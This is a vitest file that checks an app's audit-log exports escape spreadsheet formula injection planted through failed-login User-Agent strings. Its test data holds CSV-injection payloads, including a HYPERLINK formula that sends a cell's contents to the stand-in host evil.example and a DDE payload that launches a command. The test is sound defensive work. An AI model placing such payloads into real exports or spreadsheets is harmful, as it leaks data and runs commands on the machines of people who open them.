import { gunzipSync } from 'node:zlib';
import { stringify } from 'csv-stringify/sync';
import { logAuditEvent } from '../../server/audit/log.js';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTestEnv, type TestEnv } from '../support/env.js';
import { clientFor, startTestServer, type TestServer } from '../support/server.js';
import { seedTenants, type Tenants } from '../support/tenants.js';
import { startTestWorker, waitUntil } from '../support/worker.js';

let env: TestEnv;
let server: TestServer;
let t: Tenants;
let adminToken: string;

beforeAll(async () => {
  env = await createTestEnv({ EXPORT_DIR: `${process.cwd()}/test-artifacts/exports-csv-${process.pid}` });
  server = await startTestServer(env);
  t = await seedTenants(env);
  adminToken = await t.token('general', 'admin');
  await startTestWorker(env);
});

// What an attacker controls on a failed login: the User-Agent. Each one starts with a character a
// spreadsheet reads as a formula (OWASP CSV injection: = + - @ tab, carriage return).
const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

async function exported(format: 'csv' | 'ndjson'): Promise<string> {
  const admin = clientFor(server, adminToken);
  const { id } = await admin.audit.exportLogs.mutate({ format, action: 'auth.login', outcome: 'failure' });
  await waitUntil(async () => (await admin.audit.getExport.query({ id })).status === 'completed', 30_000, 'the export');
  const res = await fetch(`${server.url}/exports/${id}/download`, { headers: { authorization: `Bearer ${adminToken}` } });
  expect(res.status).toBe(200);
  return gunzipSync(Buffer.from(await res.arrayBuffer())).toString('utf8');
}

describe('audit exports: formula injection', () => {
  it('escapes formula-looking cells in CSV with a leading quote; NDJSON keeps the exact value', async () => {
    // The scenario as reported: a failed sign-in whose User-Agent is a formula.
    const res = await fetch(`${server.url}/trpc/auth.login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'user-agent': hostile[0] as string },
      body: JSON.stringify({ email: t.user('general', 'nurse.icu').email, password: 'definitely-wrong-password' }),
    });
    expect(res.ok).toBe(false);
    // HTTP trims a header's leading whitespace, so the rest are written as the auth service writes them.
    const hospitalId = t.hospital.general.id;
    for (const ua of hostile.slice(1)) {
      await logAuditEvent(env.deps.db, { userId: null, hospitalId, ip: '127.0.0.1', userAgent: ua, sessionId: null }, { action: 'auth.login', resource: 'user', outcome: 'failure' });
    }

    // A cell as CSV writes it (quoted where needed), between the commas of its neighbours.
    const cell = (v: string) => `,${stringify([[v]]).replace(/\n$/, '')},`;
    const csv = await exported('csv');
    for (const ua of hostile) {
      expect(csv).toContain(cell(`'${ua}`));
      expect(csv).not.toContain(cell(ua));
    }

    const lines = (await exported('ndjson')).trimEnd().split('\n').map((l) => JSON.parse(l) as { user_agent: string });
    const exact = lines.map((l) => l.user_agent);
    for (const ua of hostile) expect(exact).toContain(ua);
  });
});
